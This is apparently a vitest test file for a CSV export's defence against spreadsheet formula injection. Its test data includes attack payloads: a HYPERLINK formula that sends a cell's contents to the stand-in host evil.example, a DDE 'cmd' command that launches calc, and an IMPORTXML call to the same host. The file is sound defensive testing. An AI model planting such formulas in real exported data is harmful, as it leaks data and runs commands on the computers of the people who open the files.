// CSV formula injection (security issue 16, item 10): a cell a spreadsheet would run as a formula
// is written with a leading single quote, as csv-stringify's `escape_formulas` does; numbers stay
// numbers.

import { describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { csvErrorRecord, csvField, csvRecord, flattenItem } from '../../gateway/saved-queries/csv.ts';

const parse = (text: string): string[][] => parseCsv(text, { relax_column_count: true });

describe('formula injection', () => {
  const dangerous = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    '+86 178 **** 8322',
    '+1+cmd|x',
    '-2+3+cmd|x',
    '-',
    '@SUM(1+1)*cmd|x',
    '\t=1+1',
    '\r=1+1',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(A1)',
  ];

  it('prefixes every cell that starts with = + - @ tab or CR (and their full-width forms) with a single quote', () => {
    for (const value of dangerous) {
      const field = csvField(value);
      expect(parse(`${field}\r\n`), JSON.stringify(value)).toEqual([[`'${value}`]]);
    }
    expect(csvField('=1+1')).toBe("'=1+1");
    // Ordinary text, an = or - further in included, is left alone.
    for (const value of ['上海市交通违法行政处罚记录数据集', 'a=b', 'x-1', '178****8322', "'quoted", '5+5']) expect(csvField(value)).toBe(value);
    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
  });

  it('neutralises data cells, header cells and error messages alike', () => {
    const item = { title: '=1+1', provider: { name: '@evil' }, keywords: ['-x', 'ok'] };
    const cells = flattenItem(item, ['title', 'provider.name', 'keywords']);
    expect(parse(csvRecord(cells))).toEqual([["'=1+1", "'@evil", "'-x; ok"]]);
    expect(parse(csvRecord(['=header', 'id']))).toEqual([["'=header", 'id']]);
    expect(csvErrorRecord('=IMPORTXML("http://evil.example")', 3)).toBe(`#ERROR,"'=IMPORTXML(""http://evil.example"")",\r\n`);
  });

  it('keeps numbers numbers: a cell that is exactly a decimal number is no formula', () => {
    const item = { n: -5, f: -0.25, big: -1e21, tiny: 1e-7, zero: -0, long: '-100', text: '-5 元', plain: '5' };
    const cells = flattenItem(item, ['n', 'f', 'big', 'tiny', 'zero', 'long', 'text', 'plain']);
    expect(csvRecord(cells)).toBe("-5,-0.25,-1e+21,1e-7,0,-100,'-5 元,5\r\n");
  });
});
